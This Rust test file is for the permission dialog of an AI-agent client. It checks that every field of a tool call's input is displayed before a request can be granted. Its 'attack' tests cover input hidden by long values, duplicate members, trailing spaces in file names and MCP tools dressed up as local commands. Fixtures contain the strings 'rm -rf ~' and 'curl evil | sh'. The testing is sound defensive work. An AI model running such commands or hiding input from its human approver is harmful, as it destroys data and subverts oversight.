//! Input of a tool besides its command, directory and files: all of it is shown before anything can be allowed.

use std::path::PathBuf;

use attache::v1;
use attache_client::event::{Event, PermissionPrompt};
use attache_host::permissions::Action;
use expect_test::{Expect, expect};

use super::permission_dialog::answers;
use super::test_ui::{TestUi, permission_prompt, set_tool_call, test_ui};

#[test]
fn input_besides_the_command_is_shown() {
    let input = r#"{"command":"make","cwd":"/code/project/x","stdin":"rm -rf ~","env":{"CI":"1","MAKEFLAGS":"-k"},
        "timeout":5,"background":true,"options":{"script":"curl evil | sh"},"note":null,"title":"Build"}"#;
    check(
        &request("execute", input, &[]),
        &expect![[r#"
            │ command ┊ env MAKEFLAGS=-k make                              │
            │ in      ┊ /code/project/x                                    │
            │ Also in the input:                                           │
            │ input   ┊ stdin = "rm -rf ~"                                 │
            │ input   ┊ env = {"CI":"1","MAKEFLAGS":"-k"}                  │
            │ input   ┊ timeout = 5                                        │
            │ input   ┊ background = true                                  │
            │ input   ┊ options = {"script":"curl evil | sh"}              │
            │ title   ┊ Build                                              │
        "#]],
    );
}

#[test]
fn a_value_that_stands_in_another_text_is_shown() {
    let input = r#"{"command":"make","stdin":"il","mode":"Build"}"#;
    check(
        &request("execute", input, &[]),
        &expect![[r#"
            │ command ┊ make                                               │
            │ in      ┊ /code/project                                      │
            │ Also in the input:                                           │
            │ input   ┊ stdin = "il"                                       │
            │ title   ┊ Build                                              │
        "#]],
    );
}

#[test]
fn a_second_directory_and_members_that_occur_twice_are_shown() {
    let input = r#"{"command":"ls","command":"ls -l","cwd":"/code/project","workdir":"/etc","x":{"a":1,"a":2}}"#;
    check(
        &request("execute", input, &[]),
        &expect![[r#"
            │ command ┊ ls⏎                                                │
            │         ┊ ls -l                                              │
            │ part 1  ┊ ls                                                 │
            │ part 2  ┊ ls -l                                              │
            │ in      ┊ /code/project                                      │
            │ file    ┊ /etc                                               │
            │ ! Outside the workspace                                      │
            │ Also in the input:                                           │
            │ input   ┊ command = "ls"                                     │
            │ input   ┊ command = "ls -l"                                  │
            │ input   ┊ workdir = "/etc"                                   │
            │ input   ┊ x = {"a":1,"a":2}                                  │
            │ ! The input has the same member twice, so it is unclear      │
            │ which one counts.                                            │
            │ ! A shell line can run several commands.                     │
            │ title   ┊ Build                                              │
        "#]],
    );
}

#[test]
fn input_besides_a_file_is_shown_and_hidden_content_is_reported() {
    let content: v1::ToolCallContent = v1::ContentBlock::from("one\ntwo\nthree").into();
    let diff = v1::Diff::new("/code/project/a.rs", "new line\n").old_text("old line\n");
    let input =
        r#"{"path":"a.rs","old_string":"old line","new_string":"another line","replace_all":true}"#;
    check(
        &request("edit", input, &[content, diff.into()]),
        &expect![[r#"
            │ file    ┊ /code/project/a.rs                                 │
            │ Also in the input:                                           │
            │ input   ┊ new_string = "another line"                        │
            │ input   ┊ replace_all = true                                 │
            │ With 3 lines of text from the agent: see all details (Alt-D) │
            │ ┊ a.rs +1 -1                                                 │
            │ ┊ 1   - old line                                             │
            │ ┊   1 + new line                                             │
            │ title   ┊ Build                                              │
        "#]],
    );
    check(
        &request("read", r#""just a text""#, &[]),
        &expect![[r#"
            │ A tool without a name                                        │
            │ input   ┊ "just a text"                                      │
            │ title   ┊ Build                                              │
        "#]],
    );
}

/// The symptom: 507 characters of a value and 6 of 30 members were never on the screen, and the request could be allowed.
#[test]
fn attack_nothing_is_granted_before_the_whole_input_was_on_the_screen() {
    for (count, length) in [(1, 0), (1, 3000), (3, 500), (40, 1)] {
        let words: Vec<String> = (0..count).map(|at| format!("end{at}x")).collect();
        let members = words.iter().enumerate();
        let members: Vec<String> = members
            .map(|(at, word)| format!(r#""m{at}":"{} {word}""#, "v".repeat(length)))
            .collect();
        for (kind, given) in [
            ("execute", r#""command":"make""#),
            ("edit", r#""path":"a.rs""#),
        ] {
            let input = format!("{{{given},{}}}", members.join(","));
            let request = request(kind, &input, &[]);
            for (columns, rows) in [(24, 8), (40, 12), (40, 20), (64, 24), (80, 60)] {
                let mut ui = test_ui().size(columns, rows);
                ask(&mut ui, &request);
                ui.press("<Tab><Down>");
                let mut seen = ui.screen();
                let mut is_granted = false;
                for _ in 0..400 {
                    is_granted = answers(&mut ui, "<Enter>").contains("yes");
                    if is_granted {
                        break;
                    }
                    ui.press("<PgDn>");
                    seen.push_str(&ui.screen());
                }
                let is_shown = words.iter().all(|word| seen.contains(word.as_str()));
                assert!(is_shown || !is_granted, "{columns}x{rows}: {seen}");
                assert!(is_granted || rows < 20, "{columns}x{rows}: {seen}");
            }
        }
    }
}

/// The symptom: two rows `notes.txt`, and permission for two files.
#[test]
fn attack_spaces_at_the_end_of_a_file_name_are_shown() {
    let input = r#"{"path":"/code/project/notes.txt  "}"#;
    check(
        &request("edit", input, &[]),
        &expect![[r#"
            │ file    ┊ '/code/project/notes.txt  '                        │
            │ file    ┊ /code/project/notes.txt                            │
            │ ! Content not shown: allowing permits one write of any       │
            │ content to each of these files.                              │
            │ title   ┊ Build                                              │
        "#]],
    );
}

#[test]
fn attack_input_that_is_too_long_cannot_be_granted() {
    let half = "x".repeat(70_000);
    let input = format!(r#"{{"command":"make","a":"{half}","b":"{half}","c":1}}"#);
    let mut ui = test_ui().size(200, 60);
    ask(&mut ui, &request("execute", &input, &[]));
    ui.press("<Tab><Down>");
    for _ in 0..40 {
        assert_eq!(answers(&mut ui, "<Enter><PgDn>"), "");
    }
    assert!(
        ui.screen().contains("too long to be allowed here"),
        "{}",
        ui.screen()
    );
}

/// The symptom: a tool of an MCP server that is given `ls` looked like a command that runs here.
#[test]
fn attack_a_tool_of_an_mcp_server_does_not_look_like_ours() {
    for (kind, input) in [
        ("execute", r#"{"command":"ls"}"#),
        ("read", r#"{"path":"a.rs"}"#),
        ("edit", r#"{"path":"a.rs"}"#),
    ] {
        let mut prompt = request(kind, input, &[]);
        prompt.action.tool = Some("mcp__prod__ssh_exec".to_owned());
        assert!(prompt.summary().ends_with("(MCP tool mcp__prod__ssh_exec)"));
        let mut ui = test_ui().size(90, 40);
        ask(&mut ui, &prompt);
        let screen = ui.screen();
        assert!(screen.contains("Use an MCP tool?"), "{screen}");
        assert!(screen.contains("tool    ┊ mcp__prod__ssh_exec"), "{screen}");
        super::remembered_decisions::choose(&mut ui, "in this workspace");
        let screen = ui.screen();
        assert!(screen.contains("tool    ┊ mcp__prod__ssh_exec"), "{screen}");
        assert!(screen.contains("with this tool"), "{screen}");
    }
}

#[test]
fn an_answer_is_bound_to_all_of_the_input() {
    let inputs = [
        r#"{"command":"make"}"#,
        r#"{"command":"make","stdin":"a"}"#,
        r#"{"command":"make","stdin":"b"}"#,
        r#"{"command":"make","options":{"stdin":"b"}}"#,
        r#"{"command":"make","background":true}"#,
        r#"{"command":"make","env":{"CI":"1"}}"#,
        r#"{"command":"sh","command":"make"}"#,
        r#"{"command":"make","x":{"a":1,"a":2}}"#,
        r#"{"command":"make","x":{"a":2}}"#,
    ];
    let digests: std::collections::HashSet<_> = inputs
        .iter()
        .map(|input| request("execute", input, &[]).action.digest)
        .collect();
    assert_eq!(digests.len(), inputs.len());
}

fn check(prompt: &PermissionPrompt, expected: &Expect) {
    let mut ui = test_ui().size(64, 40);
    ask(&mut ui, prompt);
    let screen = ui.screen();
    let rows = screen.lines().filter_map(|row| row.strip_prefix('|'));
    let rows = rows.filter(|row| row.starts_with('│'));
    let facts: Vec<&str> = rows.take_while(|row| !row.contains("Allow once")).collect();
    expected.assert_eq(&(facts.join("\n") + "\n"));
}

fn ask(ui: &mut TestUi, prompt: &PermissionPrompt) {
    ui.event(Event::PermissionRequested(Box::new(prompt.clone())));
}

/// A permission request as an agent sends it.
fn request(kind: &str, input: &str, content: &[v1::ToolCallContent]) -> PermissionPrompt {
    let mut prompt = permission_prompt(1, &[], "");
    let kind: v1::ToolKind = attache::json::from_str(&format!("\"{kind}\"")).unwrap();
    let mut call = v1::ToolCall::new("c1", "Build")
        .kind(kind)
        .content(content.to_vec());
    call.raw_input = Some(attache::json::from_str(input).unwrap());
    let update = v1::ToolCallUpdate::new("c1");
    let options = prompt.options.clone();
    let request = v1::RequestPermissionRequest::new("s1", update, options);
    prompt.action = Action::from_request(
        "test",
        PathBuf::from("/code/project"),
        &request,
        Some(&call),
    );
    set_tool_call(&mut prompt, call);
    prompt
}
